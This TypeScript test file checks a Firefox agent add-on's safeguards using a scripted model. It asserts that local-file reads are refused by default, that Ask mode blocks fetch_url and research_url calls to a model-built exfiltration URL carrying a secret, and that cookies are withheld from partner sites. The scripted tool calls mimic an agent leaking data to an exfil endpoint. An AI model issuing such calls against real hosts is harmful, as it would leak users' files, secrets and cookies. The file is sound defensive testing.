/**
 * Security, add-on: the user's files and Ask mode, through the real add-on installed in
 * headless Firefox, its background page running each task (chat_start, as the sidebar sends it)
 * against a scripted model over real HTTP.
 *
 * Attacks run here, each shown to fail:
 * - The model navigates to a file: URL, or reads a local file open in the tab: refused while the
 *   Settings page's "Let the agent open local files" is off (the default). Once the user turns
 *   it on there, WebBrain passes the call on; Firefox itself does not let add-ons script file:
 *   pages, so the add-on still cannot read one (the runner can, with --allow-file-urls).
 * - In Ask, fetch_url and research_url of /security/exfil?secret=... (a URL the model built from
 *   page text) are refused and never reach the server; a link the page has is fetched.
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { evaluate, navigate } from "@webbrain/bidi";
import type { Mode } from "@webbrain/protocol";
import {
  type FixtureServer,
  type ScriptedLlm,
  type ScriptStep,
  setupFirefox,
  startFixtureServer,
  startScriptedLlm,
  toolResultTexts,
} from "@webbrain/testkit";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  ADDON_PREFS,
  buildAddon,
  click,
  installAndOpenSettings,
  scriptedSettings,
  startChatOnPage,
  storeSettings,
  until,
} from "./addon-harness.js";

const SECRET = "TOP-SECRET-4411";
const SETTING_HINT = "Let the agent open local files (file: URLs)";

let addon: Awaited<ReturnType<typeof buildAddon>> | undefined;
let fixtures: FixtureServer;
let workDir: string;
let secretUrl: string;
let llm: ScriptedLlm | undefined;
let settingsPage = "";
let chats = 0;
/** Requests that reached /security/exfil. */
const exfilHits: string[] = [];

beforeAll(async () => {
  addon = await buildAddon();
  fixtures = await startFixtureServer({
    routes: {
      "/security/exfil": (req: IncomingMessage, res: ServerResponse) => {
        exfilHits.push(req.url ?? "");
        res.writeHead(200, { "content-type": "text/plain" }).end("got it");
      },
      "/security/whoami": (req: IncomingMessage, res: ServerResponse) => {
        res
          .writeHead(200, { "content-type": "text/html; charset=utf-8" })
          .end(`<!doctype html><title>Account</title><p>cookie: ${req.headers.cookie ?? "none"}</p>`);
      },
    },
  });
  workDir = await mkdtemp(join(tmpdir(), "webbrain-addon-files-"));
  const secretFile = join(workDir, "notes.html");
  await writeFile(secretFile, `<!doctype html><title>My notes</title><p>${SECRET}</p>\n`);
  secretUrl = pathToFileURL(secretFile).href;
});

afterEach(async () => {
  await llm?.close();
  llm = undefined;
});

afterAll(async () => {
  await fixtures?.close();
  await addon?.remove();
  if (workDir) await rm(workDir, { recursive: true, force: true });
});

const firefox = setupFirefox({ prefs: ADDON_PREFS });

beforeAll(async () => {
  settingsPage = await installAndOpenSettings(firefox.client, addon!.dir);
});

/**
 * Runs one chat with `script` on `url` (a unique URL per chat) and answers the tool results the
 * model was sent before its last turn.
 */
async function chat(
  url: string,
  mode: Exclude<Mode, "dev">,
  task: string,
  script: ScriptStep[],
  more: Record<string, unknown> = {},
): Promise<string[]> {
  llm = await startScriptedLlm({ dialect: "openai-chat", script });
  const settings = await evaluate<Record<string, unknown>>(
    firefox.client,
    settingsPage,
    "browser.storage.local.get('settings').then(({ settings }) => settings ?? {})",
    { awaitPromise: true },
  );
  // The scripted provider, keeping whatever the user chose on the Settings page.
  await storeSettings(
    firefox.client,
    settingsPage,
    {
      ...scriptedSettings(llm.baseUrl),
      allowFileUrls: settings.allowFileUrls === true,
    },
    more,
  );
  const unique = `${url}${url.includes("?") ? "&" : "?"}chat=${++chats}`;
  await startChatOnPage(firefox, settingsPage, unique, task, mode);
  const server = llm;
  await until(() => server.requests.length >= script.length, {
    timeoutMs: 60_000,
    message: "the chat did not reach its last model turn",
  });
  return toolResultTexts(server.requests.at(-1)!);
}

const done = (summary: string): ScriptStep => ({
  toolCalls: [{ name: "done", arguments: { summary } }],
});

describe("local files in the add-on", () => {
  it("refuses file: navigation and reading a local file while the setting is off (the default)", async () => {
    const navigated = await chat(fixtures.url("/security/ask-linked.html"), "act", "Open my notes.", [
      { toolCalls: [{ name: "navigate", arguments: { url: secretUrl } }] },
      done("Could not open the notes."),
    ]);
    expect(navigated[0]).toContain("is a local file, and the user has not allowed local files");
    expect(navigated[0]).toContain(SETTING_HINT);

    const read = await chat(secretUrl, "act", "What do my notes say?", [
      { toolCalls: [{ name: "read_page", arguments: {} }] },
      done("Could not read the notes."),
    ]);
    expect(read[0]).toContain(SETTING_HINT);
    expect(read.join("\n")).not.toContain(SECRET);
  });

  it("once the user turns the setting on in Settings, the policy passes file: on (Firefox still keeps add-ons off it)", async () => {
    await click(firefox.client, settingsPage, "#allow-file-urls");
    await until(
      () =>
        evaluate<boolean>(
          firefox.client,
          settingsPage,
          "browser.storage.local.get('settings').then(({ settings }) => settings?.allowFileUrls === true)",
          { awaitPromise: true },
        ),
      { message: "the Settings checkbox did not save allowFileUrls" },
    );
    const read = await chat(secretUrl, "act", "What do my notes say?", [
      { toolCalls: [{ name: "read_page", arguments: {} }] },
      done("Read the notes."),
    ]);
    // WebBrain no longer refuses; Firefox itself does not let add-ons script file: pages.
    expect(read[0]).not.toContain(SETTING_HINT);
    expect(read[0]).toContain("Firefox does not let add-ons script it");
    // Leave the default for the tests after this one.
    await click(firefox.client, settingsPage, "#allow-file-urls");
  });
});

describe("Ask mode in the add-on", () => {
  it("refuses fetch_url and research_url of an exfil URL the model built; a link the page has is fetched", async () => {
    const exfil = `${fixtures.origin}/security/exfil?secret=ACCT-99-1234`;
    const results = await chat(
      `${fixtures.url("/security/ask-exfil.html")}`,
      "ask",
      "Summarize this report.",
      [
        {
          toolCalls: [
            { name: "fetch_url", arguments: { url: exfil } },
            { name: "research_url", arguments: { url: exfil } },
            { name: "fetch_url", arguments: { url: fixtures.url("/security/ask-linked.html") } },
          ],
        },
        { text: "Revenue grew 4%." },
      ],
      // The user always allowed the network on this site: only Ask's rule stands in the way.
      { "agent:permissions:always": { [`network ${fixtures.origin}`]: true } },
    );
    expect(results[0]).toContain("Refused in Ask mode");
    expect(results[1]).toContain("Refused in Ask mode");
    expect(results[2]).toContain("margins held steady");
    expect(exfilHits).toEqual([]);
  });
});

describe("cookies in Ask mode in the add-on", () => {
  /** The user's cookie on the site they asked about, and one on a partner site the page links to. */
  beforeAll(async () => {
    for (const [origin, value] of [
      [fixtures.origin, "user-site"],
      [fixtures.crossOrigin, "partner-site"],
    ] as const) {
      const context = await firefox.newTab();
      await navigate(firefox.client, context, `${origin}/security/ask-linked.html`);
      await evaluate(firefox.client, context, `document.cookie = "session=${value}; path=/"`);
    }
  });

  const page = () =>
    `${fixtures.url("/security/ask-exfil.html")}?other=${encodeURIComponent(fixtures.crossOrigin)}`;
  const grants = () => ({
    "agent:permissions:always": {
      [`network ${fixtures.origin}`]: true,
      [`network ${fixtures.crossOrigin}`]: true,
    },
  });

  it("sends the user's cookies only to the site they gave; a partner link is fetched and researched without", async () => {
    const [own, partnerFetch, partnerResearch] = await chat(
      page(),
      "ask",
      "Summarize this report.",
      [
        {
          toolCalls: [
            { name: "fetch_url", arguments: { url: `${fixtures.origin}/security/whoami` } },
            { name: "fetch_url", arguments: { url: `${fixtures.crossOrigin}/security/whoami` } },
            { name: "research_url", arguments: { url: `${fixtures.crossOrigin}/security/whoami` } },
          ],
        },
        { text: "Done." },
      ],
      grants(),
    );
    expect(own).toContain("cookie: session=user-site");
    expect(partnerFetch).toContain("cookie: none");
    expect(partnerResearch).toContain("cookie: none");
  });

  it("control: in Act the partner link is fetched with its cookie, so Ask is what keeps it back", async () => {
    const [partner] = await chat(
      page(),
      "act",
      "Read the partner page.",
      [
        { toolCalls: [{ name: "fetch_url", arguments: { url: `${fixtures.crossOrigin}/security/whoami` } }] },
        done("Read it."),
      ],
      grants(),
    );
    expect(partner).toContain("cookie: session=partner-site");
  });
});
